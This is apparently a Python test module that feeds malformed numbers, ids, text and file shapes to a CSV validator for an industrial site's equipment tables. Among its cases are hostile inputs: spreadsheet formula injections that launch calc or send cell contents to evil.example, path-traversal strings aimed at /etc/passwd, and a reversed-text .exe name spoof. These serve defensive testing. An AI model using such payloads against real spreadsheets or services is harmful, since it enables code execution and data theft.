"""Tables whose cells, headings and ids are wrong."""

from tests.api.service.hostile_files import GOOD
from tests.hostile.case import Case, refused, right
from tests.hostile.makers import as_csv, cell, columns, folder, later, rows_of, table, unit

_U = ("units", 1)


def _number(what: str, text: str, code: str) -> Case:
    return refused(what, "park", cell("units", 1, "diameter_m", text), code, where=(*_U, "diameter_m"))


def _id(what: str, text: str, *codes: str) -> Case:
    return refused(what, "park", cell("units", 2, "unit_id", text), *codes, where=("units", 2, "unit_id"))


def _read(what: str, text: str, value: float) -> Case:
    return right(what, "park", cell("units", 1, "diameter_m", text), lambda park: unit(park)["diameter_m"] == value)


def _similar(what: str, text: str) -> Case:
    make = table("units", lambda rows: rows.append([text, *rows[2][1:5], "4500250", *rows[2][6:]]))
    return right(what, "park", make, lambda park: len(park.tables["units"]) == 6, "similar_ids")


def _both(what: str, text: str, code: str) -> Case:
    make = table("units", lambda rows: rows.append([text, *rows[2][1:5], "4500250", *rows[2][6:]]))
    return refused(what, "park", make, code, where=("units", 6, "unit_id"))


def _formula(what: str, text: str) -> Case:
    return refused(what, "park", cell("units", 1, "name", text), "formula_text", where=(*_U, "name"))


def _twice_header(rows: list[list[str]]) -> None:
    rows.insert(1, rows[0])


NUMBERS = (
    _number("NaN in a cell", "NaN", "not_finite"),
    _number("infinity in a cell", "-inf", "not_finite"),
    _number("1e999 in a cell", "1e999", "not_finite"),
    _number("hexadecimal number", "0x10", "not_a_number"),
    _number("decimal comma", "16,5", "not_a_number"),
    _number("thousands separators", "1,600", "not_a_number"),
    _number("digits with underscores", "1_6", "not_a_number"),
    _number("a unit in the cell", "16 m", "not_a_number"),
    _number("a fraction", "0/0", "not_a_number"),
    _number("a formula for a number", "=8*2", "not_a_number"),
    _number("error of a spreadsheet", "#DIV/0!", "not_finite"),
    _number("two numbers", "16 17", "not_a_number"),
    _number("Chinese numerals", "十六", "not_a_number"),
    _number("Arabic digits", "\u0661\u0666", "not_a_number"),
    _number("superscript", "16²m", "not_a_number"),
    _number("a truth value", "true", "not_a_number"),
    _number("negative diameter", "-16", "out_of_range"),
    _number("diameter of 1e308", "1e308", "out_of_range"),
    _number("hundred thousand digits", "9" * 100_000, "not_finite"),
    _number("almost nothing", "1e-320", "out_of_range"),
    _read("full-width digits", "１６", 16.0),
    _read("digits between blanks", "\u3000 16\u00a0", 16.0),
    _read("plus sign and exponent", "+1.6E1", 16.0),
    _read("minus zero on the right", "16.0e-0", 16.0),
    refused("negative mass", "park", cell("units", 1, "mass_t", "-1400"), "out_of_range", where=(*_U, "mass_t")),
    refused("fill of 1.2", "park", cell("units", 1, "fill_fraction", "1.2"), "out_of_range"),
    refused("fill of 80", "park", cell("units", 1, "fill_fraction", "80"), "out_of_range"),
    refused("colder than absolute zero", "park", cell("units", 1, "temperature_c", "-300"), "out_of_range"),
    refused("half a person", "park", cell("enterprises", 1, "residents_500m", "40.5"), "not_whole"),
    refused("probability of 7", "park", cell("ignition", 1, "presence", "7"), "out_of_range"),
    refused("frequencies that add up to 2", "park", columns("weather", frequency=lambda f: f"{2 * float(f)}"),
            "frequencies_sum"),
    refused("no wind at all", "park", columns("weather", frequency=lambda f: "0"), "frequencies_sum"),
    refused("wind from 720 degrees", "park", cell("weather", 1, "wind_from", "720"), "out_of_range"),
    refused("stability class Z", "park", cell("weather", 1, "stability", "Z"), "not_a_choice"),
    refused("date as a number", "park", cell("indicators", 1, "date", "46022"), "not_a_date"),
    refused("30 February", "park", cell("indicators", 1, "date", "2026-02-30"), "not_a_date"),
    refused("year 0", "park", cell("indicators", 1, "date", "0000-01-01"), "not_a_date"),
    right("minus zero", "park", cell("units", 1, "pressure_kpa", "-0"),
          lambda park: str(float(unit(park)["pressure_kpa"])) == "0.0"),
)  # fmt: skip

IDS = (
    _id("id twice", "T-101", "duplicate_id"),
    _id("id twice but for blanks", "T-101  ", "duplicate_id"),
    _id("zero-width space in an id", "T-\u200b102", "control_character"),
    _id("zero-width joiner in an id", "T-102\u200d", "control_character"),
    _id("byte order mark in an id", "T-\ufeff102", "control_character"),
    _id("text turned round in an id", "T-\u202e201", "control_character"),
    _id("line break in an id", "T-\n102", "control_character"),
    _id("tab in an id", "T-\t102", "control_character"),
    _id("semicolon in an id", "T;102", "semicolon_in_id"),
    _id("bell in an id", "T-\x07102", "control_character"),
    _id("empty id", "", "missing_value"),
    _id("id of blanks", "  \u3000 ", "missing_value"),
    _id("formula as an id", "=1+1", "formula_text"),
    _id("command as an id", "@SUM(1+1)*cmd|' /C calc'!A0", "formula_text"),
    _id("id of a megabyte", "T" * 100_000, "text_too_long"),
    _similar("id of another width", "Ｔ-101"),
    _similar("id twice but for case", "t-101"),
    refused("reference to nothing", "park", cell("units", 1, "enterprise_id", "e9"), "dangling_reference"),
    refused("contents of a unit that is not there", "park", cell("contents", 1, "unit_id", "../R-301"),
            "dangling_reference"),
    refused("substance that is none", "park", cell("units", 1, "substance", "../../etc/passwd"), "unknown_substance"),
    refused("substance by a wrong CAS number", "park", cell("units", 1, "substance", "67-56-2"), "unknown_substance"),
    refused("substance of 100,000 letters", "park", cell("units", 1, "substance", "x" * 100_000),
            "text_too_long"),
)  # fmt: skip

TEXTS = (
    _formula("command in a name", "=cmd|' /C calc'!A0"),
    _formula("link in a name", '=HYPERLINK("http://evil.example/?"&A1,"here")'),
    _formula("formula behind a plus", "+SUM(1,1)"),
    _formula("formula behind a minus", "-2+3+cmd|' /C calc'!A0"),
    _formula("formula behind an at", "@SUM(A1:A9)"),
    _formula("full-width formula", "＝SUM(A1)"),
    right("note behind a dash", "park", cell("units", 1, "note", "- 见台账 (2026)"), lambda park: True),
    right("negative number as a note", "park", cell("units", 1, "note", "-5"), lambda park: True),
    refused("null in a name", "park", cell("units", 1, "name", "a\0b"), "unreadable"),
    refused("backspace in a name", "park", cell("units", 1, "name", "a\bb"), "control_character",
            where=(*_U, "name")),
    refused("text turned round in a name", "park", cell("units", 1, "name", "罐\u202egnp.exe"), "control_character"),
    refused("isolated text in a name", "park", cell("units", 1, "name", "a\u2066b"), "control_character"),
    refused("characters that are none", "park", cell("units", 1, "name", "a\ufffeb"), "control_character"),
    refused("cell of a million letters", "park", cell("units", 1, "note", "x" * 10**6), "unreadable"),
    refused("name of 100,000 letters", "park", cell("units", 1, "name", "x" * 100_000), "text_too_long"),
    right("markup in a name stays text", "park", cell("units", 1, "name", "<script>alert(1)</script>"),
          lambda park: unit(park)["name"] == "<script>alert(1)</script>"),
)  # fmt: skip

FORMS = (
    refused("empty file", "park", folder({"units.csv": b""}), "empty_table", where=("units", None, "")),
    refused("heading only", "park", table("units", lambda rows: rows.__delitem__(slice(1, None))), "empty_table"),
    refused("heading twice", "park", table("units", _twice_header), "not_a_number"),
    refused("no heading", "park", table("units", lambda rows: rows.pop(0)), "missing_column"),
    refused("blanks only", "park", folder({"units.csv": b" \n\n \n"}), "missing_column"),
    refused("required table missing", "park", folder({"units.csv": None}), "missing_table"),
    refused("name of a table misspelt", "park", folder({"units.csv": None, "unit.csv": GOOD["units.csv"]}),
            "unknown_table", "missing_table"),
    refused("column twice", "park", cell("units", 0, "name", "unit_id"), "duplicate_column"),
    refused("unknown column", "park", cell("units", 0, "name", "nmae"), "unknown_column"),
    refused("ten thousand columns", "park",
            later(lambda: table("units", lambda rows: [row.extend(["x"] * 10_000) for row in rows])), "unreadable"),
    refused("rows longer than the heading", "park", table("units", lambda rows: rows[1].append("x")), "ragged_row"),
    refused("rows shorter than the heading", "park", table("units", lambda rows: rows[1].pop()), "ragged_row"),
    refused("semicolons between cells", "park",
            folder({"units.csv": GOOD["units.csv"].replace(b",", b";")}), "wrong_delimiter"),
    refused("quotation mark that never ends", "park",
            folder({"units.csv": GOOD["units.csv"].replace(b"T-101,", b'"T-101,', 1)}), "unreadable"),
    refused("unit of a heading that is none", "park", cell("units", 0, "diameter_m", "设备直径（英寻）"),
            "unknown_column"),
    refused("a workbook called a table", "park", folder({"units.csv": b"PK\x03\x04" + bytes(100)}),
            "workbook_as_csv"),
    refused("a picture called a table", "park", folder({"units.csv": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff"}),
            "encoding_unknown"),
    refused("three hundred thousand faulty cells", "park",
            later(lambda: folder({"units.csv": as_csv([rows_of("units")[0], *[["?"] * len(rows_of("units")[0])] * 15_000])})),
            "not_a_number", "further_problems"),
    refused("a hundred thousand rows of one id", "park",
            later(lambda: folder({"units.csv": as_csv([rows_of("units")[0], *[rows_of("units")[1]] * 100_000])})),
            "duplicate_id", "further_problems"),
)  # fmt: skip

CASES = (*NUMBERS, *IDS, *TEXTS, *FORMS)
